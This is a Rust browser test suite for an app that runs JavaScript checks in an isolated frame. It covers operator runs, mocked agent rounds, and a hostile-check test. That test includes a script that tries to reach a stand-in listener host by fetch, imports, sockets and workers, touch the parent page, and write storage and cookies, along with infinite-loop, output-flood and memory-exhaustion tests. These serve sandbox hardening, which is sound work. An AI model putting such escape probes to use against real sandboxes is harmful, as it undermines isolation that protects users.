//! Flows for checks: run by the operator, a round repeated because its checks fail, and hostile checks.

use anyhow::{Result, ensure};
use serde_json::{Value, json};

use crate::app;
use crate::fixture::Fixture;
use crate::flows::preview::{Listeners, isolates_page, written};
use crate::flows::screenshots;
use crate::provider::Answer;
use crate::selectors::*;

const SUM: &str = "export const add = (a, b) => a + b;\n";
const TEST: &str =
    "import { add } from '../sum.js';\ntest('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n";

/// Waits for the end of a check run with this verdict.
async fn finished(fixture: &Fixture, verdict: &str) -> Result<()> {
    fixture.page.see(CHECKS_SUMMARY.with("data-verdict", verdict)).await
}

/// Checks run by the operator and by an agent in its round.
pub(crate) async fn checks(fixture: &mut Fixture) -> Result<()> {
    app::set_up(fixture).await?;
    by_the_operator(fixture).await?;
    app::start_over(fixture).await?;
    rounds(fixture).await
}

/// The operator runs checks, sends failures, and the next run passes.
async fn by_the_operator(fixture: &mut Fixture) -> Result<()> {
    let wrong = SUM.replace('+', "-");
    let files = [
        ("sum.js", &*wrong),
        ("tests/sum.js", TEST),
        ("data.json", "{ \"a\": 1, }"),
        ("page.html", "<div>\n<script>let a = ;</script>"),
        ("main.py", "print(1)"),
    ];
    written(fixture, &files).await?;
    fixture.page.click(RUN_CHECKS).await?;
    finished(fixture, "failed").await?;
    fixture.page.see_text(CHECKS_TESTS, "Expected -1 to be 3.").await?;
    fixture.page.see_text(CHECKS_TESTS, "tests/sum.js:3").await?;
    for words in
        ["data.json:1:11: not JSON", "page.html:1: <div> is not closed", "page.html:2: Does not parse"]
    {
        fixture.page.see_text(CHECKS_PROBLEMS, words).await?;
    }
    fixture.page.see_text(CHECKS_UNCHECKED, "Python: main.py").await?;
    ensure!(fixture.page.count(Selector::css("[data-testid=check-frame]")).await? == 0, "the frame is left");
    if let Some(folder) = screenshots::folder() {
        for (width, height, name) in [(1280, 800, "usual"), (360, 740, "narrow")] {
            fixture.page.resize(width, height).await?;
            fixture.page.screenshot(&folder.join(format!("checks-{name}.png"))).await?;
        }
        fixture.page.resize(1440, 900).await?;
    }
    fixture.page.choose(CHECKS_TO, "engineer").await?;
    fixture.page.click(CHECKS_SEND).await?;
    fixture.page.hidden(CHECKS).await?;
    let typed = "document.querySelector('#composer')?.value.includes('@Engineer The checks fail')
        && document.querySelector('#composer').value.includes('FAILED tests/sum.js: adds (tests/sum.js:3)')";
    fixture.page.wait_for("the failures in the composer", typed, &[]).await?;

    let fixed = [("sum.js", SUM), ("data.json", "{}"), ("page.html", "<p>Hello</p>")];
    written(fixture, &fixed).await?;
    fixture.page.click(RUN_CHECKS).await?;
    finished(fixture, "passed").await?;
    fixture.page.click(CHECKS_CLOSE).await?;
    fixture.page.hidden(CHECKS).await
}

/// The first attempt fails its checks, the Critic rejects it, and the second is accepted.
async fn rounds(fixture: &mut Fixture) -> Result<()> {
    fixture.page.click(KEEP_GOING).await?;
    for (sum, accepted, verdict) in
        [(SUM.replace('+', "-"), false, "The sum is wrong."), (SUM.to_owned(), true, "It adds.")]
    {
        fixture.provider.queue_for("Architect", Answer::say("Plan."));
        let files = [("sum.js", &*sum), ("tests/sum.js", TEST)].into_iter();
        let write = |(name, content)| ("write_file", json!({ "name": name, "content": content }));
        fixture.provider.queue_for("Engineer", Answer::new().calls(files.map(write)));
        fixture.provider.queue_for("Engineer", Answer::say("Built."));
        fixture.provider.queue_for("Critic", Answer::new().call("run_checks", json!({})));
        let verdict = json!({ "accepted": accepted, "reasons": verdict });
        fixture.provider.queue_for("Critic", Answer::new().call("accept_work", verdict));
        fixture.provider.queue_for("Critic", Answer::say("Judged."));
    }
    app::send_to(&fixture.page, "ALL", "Add numbers until the checks pass.").await?;
    fixture.page.see_text(TIMELINE, "It adds.").await?;
    app::idle(&fixture.page).await?;
    let verdict_of = |results: &[Value]| {
        results.last().and_then(|result| result.pointer("/response/verdict")).cloned().unwrap_or_default()
    };
    let first = fixture.request_of("Critic", 2).await?.tool_results();
    ensure!(verdict_of(&first) == "failed", "the first attempt: {first:?}");
    let second = fixture.request_of("Critic", 5).await?.tool_results();
    ensure!(verdict_of(&second) == "passed", "the second attempt: {second:?}");
    let text = fixture.page.text(TIMELINE).await?;
    ensure!(
        !text.contains("Accepted without passing checks"),
        "accepted with passing checks, but the page denies it"
    );
    Ok(())
}

/// Each attempt is a test: none may pass.
const REACH: &str = "const ways = {
  fetch: () => fetch('http://EAR/fetch'),
  blind: () => fetch('http://EAR/blind', { mode: 'no-cors' }),
  module: () => import('http://EAR/module.js'),
  script: () => importScripts('http://EAR/script.js'),
  request: () => { const r = new XMLHttpRequest(); r.open('GET', 'http://EAR/xhr', false); r.send(); },
  socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://EAR/'); s.onopen = yes; s.onerror = () => no(new Error('closed')); }),
  events: () => new Promise((yes, no) => { const s = new EventSource('http://EAR/'); s.onopen = yes; s.onerror = () => no(new Error('closed')); }),
  worker: () => new Promise((yes, no) => {
    const text = `fetch('http://EAR/worker').then(() => postMessage(1), () => postMessage(0))`;
    const w = new Worker(URL.createObjectURL(new Blob([text])));
    w.onmessage = ({ data }) => (data ? yes() : no(new Error('closed')));
    w.onerror = () => no(new Error('closed'));
  }),
  rtc: () => new RTCPeerConnection(),
  page: () => parent.document.title,
  top: () => { top.location = 'http://EAR/top'; },
  database: () => new Promise((yes, no) => { const d = indexedDB.open('x'); d.onsuccess = yes; d.onerror = () => no(d.error); }),
  storage: () => localStorage.setItem('nexus_user_name', 'x'),
  cookie: () => { document.cookie = 'a=b'; },
};
for (const [name, way] of Object.entries(ways)) test(name, way);
new BroadcastChannel('nexus').postMessage({ leaked: true });
";

/// Checks that never end, exhaust memory, write endlessly or access the network are reported and harm nothing.
pub(crate) async fn hostile(fixture: &mut Fixture) -> Result<()> {
    let blank = fixture.site.url(crate::site::BLANK_PAGE);
    fixture.page.goto(&blank).await?;
    let is_isolated = isolates_page(&fixture.page).await?;
    let listeners = Listeners::open(true)?;
    let reach = listeners.page(REACH);
    app::set_up(fixture).await?;
    let mut files = vec![
        ("tests/1.js", "test('loops', () => { for (;;); });"),
        ("tests/2.js", "test('floods', () => { for (;;) postMessage('x'.repeat(10000)); });"),
        (
            "tests/3.js",
            "test('talks', () => { for (let i = 0; i < 1000; i += 1) console.log('y'.repeat(10000)); throw new Error('z'.repeat(1e7)); });",
        ),
        ("tests/4.js", &*reach),
        ("tests/6.js", "test('still runs', () => {});"),
    ];
    if is_isolated {
        // Other browsers may run the frame in the page's process.
        files.push((
            "tests/5.js",
            "test('grows', () => { const a = []; for (;;) a.push(new Array(1e6).fill(a.length)); });",
        ));
    }
    written(fixture, &files).await?;
    fixture.page.click(RUN_CHECKS).await?;
    // The page stays responsive.
    let answers = "new Promise(done => setTimeout(() => done(true), 0))";
    ensure!(fixture.page.eval_async(&format!("return await {answers}"), &[]).await? == true);
    finished(fixture, "failed").await?;
    let tests = fixture.page.texts(CHECK_TEST).await?;
    let state = |name: &str| tests.iter().find(|test| test.contains(name)).cloned().unwrap_or_default();
    for (name, words) in [("loops", "infinite loop"), ("2.js", "too much output"), ("talks", "zzz")] {
        ensure!(state(name).contains(words), "{name}: {}", state(name));
    }
    let passed = fixture.page.texts(CHECK_TEST.with("data-state", "passed")).await?.join(" ");
    ensure!(passed.contains("still runs") && !passed.contains("4.js"), "what passed: {passed}");
    listeners.expect_silence("checks that try everything").await?;
    ensure!(
        fixture.page.local("nexus_user_name").await?.as_deref() == Some(app::NAME),
        "it wrote our storage"
    );
    ensure!(fixture.page.count(Selector::css("[data-testid=check-frame]")).await? == 0, "the frame is left");
    fixture.page.click(CHECKS_CLOSE).await?;
    fixture.page.fill(COMPOSER, "still here").await
}
